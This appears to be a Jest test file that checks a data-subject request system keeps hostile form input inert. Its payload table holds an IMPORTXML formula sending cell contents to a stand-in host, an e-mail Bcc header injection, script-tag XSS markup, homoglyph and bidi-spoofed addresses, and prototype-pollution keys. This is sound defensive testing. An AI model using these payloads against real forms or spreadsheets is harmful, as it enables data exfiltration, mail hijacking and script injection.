import { describe, expect, test } from '@jest/globals';
import type { RequestOrder } from '../../../src/actions/requests/deeds';
import { confirmCodes } from '../../../src/actions/requests/identity';
import { receiveSubmissions, type NewRequest } from '../../../src/actions/requests/receive';
import { requestDesk } from '../../../src/actions/requests/desk';
import { requestList } from '../../../src/actions/requests/view';
import { sweep } from '../../../src/actions/sweep';
import { verify } from '../../../src/actions/verify';
import { fillTokens, mailSubject, tokensOf } from '../../../src/documents/letter';
import { tabTexts } from '../../../src/language/tabs';
import { MAX_CELL_CHARACTERS } from '../../../src/workbook/codec';
import type { TestRegister } from '../../support/register';
import { customer, everything, idOf } from '../by-hand';
import {
  act,
  claim as claimed,
  codeOf,
  receive as received,
  response as sent,
  settle,
  shopOf,
  view as viewOf,
} from './work';

/** Anybody can type anything into the form, and whatever is mailed in is pasted: it stays text, and somebody else's text. */
const hostile: Record<string, string> = {
  'a formula': '=1+1',
  'a formula that fetches': '=IMPORTXML("https://x.example/?"&A1;"//a")',
  'a number to call': '+358 40 123 4567',
  'a mention': '@x',
  'a subtraction': '-2+3',
  'a quote before': "'=1+1",
  'a day': '24.11.2026',
  'a share': '50 %',
  truth: 'TRUE',
  markup: '<img src=x onerror="alert(1)"><script>alert(2)</script>&amp;</body>',
  'a second header': 'a@b.fi\r\nBcc: x@y.fi',
  'two addresses': 'aino@example.fi, x@y.fi',
  'an address with a name': '"Aino" <aino@example.fi>',
  'places of a letter': '{{code}} {{link}} {{{code}}} {\u200b{code}}',
  'a long text': 'pitkä '.repeat(6_667).slice(0, 40_000),
  'a text too long': 'liian pitkä '.repeat(5_000),
  'emoji too long': '👍'.repeat(30_000),
  'writing from right to left': '\u202efi.elpmaxe@onia\u202c',
  'marks without width': 'ai\u200bno@exa\u2060mple\ufeff.fi\u00ad',
  'wide letters': 'ＡＩＮＯ＠ｅｘａｍｐｌｅ．ｆｉ',
  'letters that look alike': 'аino@example.fi',
  'a prototype': '__proto__',
  'a constructor': 'constructor',
  emoji: '👩‍👩‍👧‍👦🏳️‍🌈',
  'half a character': 'x\ud800y\udc00',
  'a heading and a list': '# Decision\n- granted\n\n-- \nThe Ombudsman',
  'a line of its own': 'a\u2028b\u0085c\u0000d',
  'blanks only': ' \t\n\u00a0 ',
};
const fields = ['name', 'email', 'phone', 'organisation', 'details'] as const;
const headings = {
  name: 'Name',
  email: 'E-mail',
  phone: 'Phone',
  organisation: 'Organisation',
  details: 'Details',
};

const people = shopOf(
  'number,firstName,lastName,email,phone,language\n1,Aino,Mallinen,aino@example.fi,040 123 4567,en\n2,Eino,Esimerkki,eino@example.fi,040 765 4321,fi\n',
);
people.run(sweep(people.world));

/** No customer, unless a test says otherwise. */
const nobody = { name: 'Somebody', email: 'somebody@example.org' };
const response = (id: string, wish: Partial<NewRequest>) => sent(id, { ...nobody, ...wish });
const receive = (register: TestRegister, wish: Partial<NewRequest>): string =>
  received(register, { ...nobody, ...wish });
const claim = (register: TestRegister) => claimed(register).letters;

/** A text as a cell keeps it: to the letter, but for half characters, and cut where no cell is long enough. */
function kept(text: string): string {
  const whole = text.replace(/\p{Surrogate}/gu, '\ufffd');
  if (whole.length <= MAX_CELL_CHARACTERS) return whole;
  return `${whole.slice(0, MAX_CELL_CHARACTERS - 1).replace(/[\ud800-\udbff]$/, '')}…`;
}

/** What must be true of every letter, whoever wrote what stands in it. */
function expectHarmlessLetters(register: TestRegister): void {
  for (const { Kind, Subject, To, Text } of register.records('Letters')) {
    expect({ Kind, Subject }).toEqual({ Kind, Subject: mailSubject(String(Subject)) });
    expect(String(Subject)).not.toMatch(/[\r\n\u2028\u2029\u0085{}]/);
    expect(String(To)).toMatch(/^([^\s,<>"]+@[^\s,<>"@]+)?$/);
    if (Kind !== 'Identity code') expect(tokensOf({ subject: '', text: String(Text) })).toEqual([]);
    expect(String(Text)).not.toMatch(/[\r\0\u202e\u200b\u2028]|\p{Surrogate}/u);
  }
}

const isWhole = (register: TestRegister) =>
  expect(register.run(verify(register.world))).toMatchObject({ ok: true });

describe('whatever somebody types', () => {
  const register = people.copy();
  const customers = register.records('Customers');
  const typed = Object.entries(hostile).flatMap(([what, text]) =>
    fields.map((field) => ({ what, field, text, id: `${what} ${field}` })),
  );
  const submissions = typed.map(({ field, text, id }) => response(id, { [field]: text }));
  const { result } = register.run(receiveSubmissions(register.world, submissions));
  const rows = register.records('Requests');

  test('is taken, each request once', () => {
    expect(result).toEqual({ taken: typed.length, changed: 0 });
    expect(rows).toHaveLength(typed.length);
    expect(register.run(receiveSubmissions(register.world, submissions)).result).toEqual({
      taken: 0,
      changed: 0,
    });
  });

  test.each(Object.keys(hostile))('stays text to the letter: %s', (what) => {
    typed.forEach((each, at) => {
      if (each.what !== what) return;
      expect(rows[at]?.[headings[each.field]] === kept(each.text)).toBe(true);
    });
  });

  test('makes no letter that says or goes anywhere else, changes no customer and breaks no list', () => {
    expectHarmlessLetters(register);
    const addresses = new Set(register.records('Letters').map(({ To }) => To));
    const fine = ['somebody@example.org', 'aino@example.fi', 'аino@example.fi'];
    expect([...addresses].filter((address) => !fine.includes(String(address)))).toEqual([]);
    expect(register.records('Customers')).toEqual(customers);
    const { requests, broken } = register.run(requestList(register.world));
    expect([requests.length, broken]).toEqual([typed.length, []]);
    expect(register.run(sweep(register.world)).result.unreadable).toEqual([]);
    isWhole(register);
  });

  test('links a request to nobody but whose address it is', () => {
    const linked = typed.filter((_each, at) => rows[at]?.Customer !== '');
    expect(linked).toEqual([]);
  });

  test('enters the log nowhere', () => {
    const log = JSON.stringify(everything(register)[tabTexts.log.title.en]);
    for (const part of ['IMPORTXML', 'Bcc', 'onerror', 'pitkä', '👍', 'y.fi', 'Ombudsman'])
      expect(log).not.toContain(part);
  });
});

test.each(Object.keys(hostile))('by hand it is the same: %s in every field at once', (what) => {
  const register = people.copy();
  const text = hostile[what] as string;
  const wish = Object.fromEntries(fields.map((field) => [field, text]));
  const code = codeOf(() => receive(register, wish));
  if (text.trim() === '') return expect(code).toBe('wayToReachMissing');
  expect(code).toBe('none');
  const [row] = register.records('Requests');
  for (const field of fields) expect(row?.[headings[field]] === kept(text)).toBe(true);
  expectHarmlessLetters(register);
  const view = register.run(requestDesk(register.world, String(row?.ID)));
  expect(view.name === kept(text)).toBe(true);
  return undefined;
});

describe('who is meant', () => {
  const mallinen = idOf(people, 'aino@example.fi');
  const view = (wish: Partial<NewRequest>) => {
    const register = people.copy();
    return viewOf(register, receive(register, wish));
  };

  test.each([
    ['wide letters', 'ＡＩＮＯ＠ｅｘａｍｐｌｅ．ｆｉ', 'Aino Mallinen'],
    ['marks without width', 'ai\u200bno@exa\u2060mple\ufeff.fi\u00ad', 'Ai\u200bno Mal\u00adlinen'],
    ['capitals and blanks', '  AINO@EXAMPLE.FI\t', ' AINO   MALLINEN '],
    ['the last name first, in wide letters', 'aino@example.fi', 'Ｍａｌｌｉｎｅｎ Aino'],
    ['marks of the writing direction', '\u202aaino@example.fi\u202c', '\u200fAino Mallinen'],
  ])('is found whatever the writing: %s', (_what, email, name) => {
    expect(view({ email, name })).toMatchObject({ customer: mallinen });
  });

  test.each([
    ['a letter of another script', 'аino@example.fi'],
    ['two addresses', 'aino@example.fi, x@y.fi'],
    ['an address with a name', 'Aino <aino@example.fi>'],
    ['a second header', 'aino@example.fi\r\nBcc: x@y.fi'],
    ['reversed writing', '\u202efi.elpmaxe@onia'],
    ['a plus part', 'aino+x@example.fi'],
    ['a domain below', 'aino@example.fi.example.org'],
    ['a zero character', 'aino@example.fi\u0000'],
  ])('is nobody by %s', (_what, email) => {
    const seen = view({ email, name: 'Aino Mallinen' });
    expect(seen).toMatchObject({ customer: '', candidates: [{ id: mallinen, reasons: ['name'] }] });
    const register = people.copy();
    receive(register, { email, name: 'Aino Mallinen', right: 'withdrawConsent' });
    receive(register, { email, name: 'Aino Mallinen', right: 'objectMarketing' });
    expect(register.records('Consents')).toEqual([]);
    expect(register.records('Customers')).toEqual(people.records('Customers'));
  });

  test.each(['аino Mallinen', 'Ainо Mallinen', '__proto__', 'constructor', '=1+1'])(
    'is the owner’s to decide where the name is another: %s',
    (name) => {
      const seen = view({ email: 'aino@example.fi', name });
      expect(seen).toMatchObject({ customer: '', candidates: [{ id: mallinen, nameDiffers: true }] });
    },
  );

  test('an objection in wide letters binds the one whose address it is, and nobody else', () => {
    const register = people.copy();
    const other = customer(register, 'eino@example.fi');
    receive(register, { email: 'ＡＩＮＯ＠ｅｘａｍｐｌｅ．ｆｉ', name: 'x', right: 'objectMarketing' });
    expect(customer(register, 'aino@example.fi')).toMatchObject({ Marketing: 'Withdrawn' });
    expect(customer(register, 'eino@example.fi')).toEqual(other);
    const answers = claim(register).map(({ kind, to }) => [kind, to]);
    expect(answers).toEqual([['answer', 'aino@example.fi']]);
  });

  test.each(['__proto__', 'constructor', 'toString', '=1+1', '', ' ', '\ud800'])(
    'a reference or a person by the name of %j is not found',
    (id) => {
      const register = people.copy();
      const known = receive(register, { email: 'aino@example.fi', name: 'Aino Mallinen' });
      const before = everything(register);
      expect(codeOf(() => act(register, id, { act: 'withdraw' }))).toBe('requestNotFound');
      expect(codeOf(() => act(register, known, { act: 'choosePerson', customer: id }))).toBe(
        'customerNotFound',
      );
      expect(codeOf(() => act(register, known, { act: 'markDuplicate', of: id }))).toBe('requestNotFound');
      const typed = { response: 'r', at: '', reference: id, code: '__proto__' };
      expect(register.run(confirmCodes(register.world, [typed])).result).toEqual({ confirmed: 0, wrong: 0 });
      expect(everything(register)).toEqual(before);
    },
  );
});

describe('a code', () => {
  const register = people.copy();
  const id = receive(register, { email: 'aino@example.fi', name: 'Aino Mallinen', receipt: false });
  act(register, id, { act: 'sendCode' });
  const [letter] = claim(register);
  const code = String(letter?.tokens['code']);
  settle(register, [letter?.id ?? '']);
  const type = (of: TestRegister, typed: string, reference = id) =>
    of.run(confirmCodes(of.world, [{ response: 'r', at: '', reference, code: typed }])).result;

  test('has its places in the letter, and is filled in once', () => {
    const filled = fillTokens(
      { subject: letter?.subject ?? '', text: letter?.text ?? '' },
      { code, link: 'https://forms.example/{{code}}' },
    );
    expect(filled.text.split(code)).toHaveLength(2);
  });

  const foursomes = Array.from({ length: Math.ceil(Object.keys(hostile).length / 4) }, (_, at) =>
    Object.keys(hostile).slice(4 * at, 4 * at + 4),
  );
  test.each(foursomes)('is not %s, %s, %s, %s', (...four) => {
    const copy = register.copy();
    const typed = four.map((what) => ({
      response: what,
      at: '',
      reference: id,
      code: hostile[what] as string,
    }));
    expect(copy.run(confirmCodes(copy.world, typed)).result).toEqual({ confirmed: 0, wrong: typed.length });
    expect(viewOf(copy, id).isIdentified).toBe(false);
    expect(type(copy, code)).toEqual({ confirmed: 1, wrong: 0 });
  });

  test('counts in wide letters and with marks that nobody sees', () => {
    const wide = Array.from(code, (each) => String.fromCharCode(each.charCodeAt(0) + 0xfee0)).join('\u200b');
    expect(type(register.copy(), wide)).toEqual({ confirmed: 1, wrong: 0 });
  });
});

describe('what the owner pastes', () => {
  const start = people.copy();
  const id = receive(start, { email: 'aino@example.fi', name: 'Aino Mallinen', receipt: false });
  const orders: Record<string, (text: string) => RequestOrder> = {
    askIdentity: (text) => ({ act: 'askIdentity', doubt: text, asked: text }),
    identify: (text) => ({ act: 'identify', how: text }),
    pause: (text) => ({ act: 'pause', reason: text }),
    extend: (text) => ({ act: 'extend', reasons: text }),
    refuse: (text) => ({ act: 'refuse', ground: 'excessive', reasons: text, law: text }),
    unableToIdentify: (text) => ({ act: 'unableToIdentify', reasons: text }),
  };
  const texts = [
    'a formula',
    'a second header',
    'places of a letter',
    'a long text',
    'a text too long',
    'marks without width',
    'half a character',
    'a heading and a list',
    'a line of its own',
    'blanks only',
  ].map((what) => [what, hostile[what] as string] as const);
  const mostlyBlank = ['mostly blank lines', `a${'\n'.repeat(60_000)}b`] as const;

  test.each(Object.keys(orders))('to %s stays text, in the row and in the letter', (name) => {
    for (const [what, text] of [...texts, mostlyBlank])
      for (const delivery of ['mail', 'handedOver'] as const) {
        const register = start.copy();
        const order = (orders[name] as (text: string) => RequestOrder)(text);
        const code = codeOf(() => act(register, id, order, { delivery }));
        if (code !== 'none') {
          const isBlank = text.trim() === '' && code === 'reasonsMissing';
          const isTooLong = text.length > 24_000 && code === 'cellTooLong';
          expect({ what, delivery, code, isRefused: isBlank || isTooLong }).toMatchObject({
            isRefused: true,
          });
          expect(everything(register)).toEqual(everything(start));
          continue;
        }
        const letters = claim(register);
        settle(
          register,
          letters.map((letter) => letter.id),
        );
        expectHarmlessLetters(register);
        expect(viewOf(register, id).pauses.length).toBeLessThan(2);
        expect(register.run(requestList(register.world)).broken).toEqual([]);
      }
  });
});
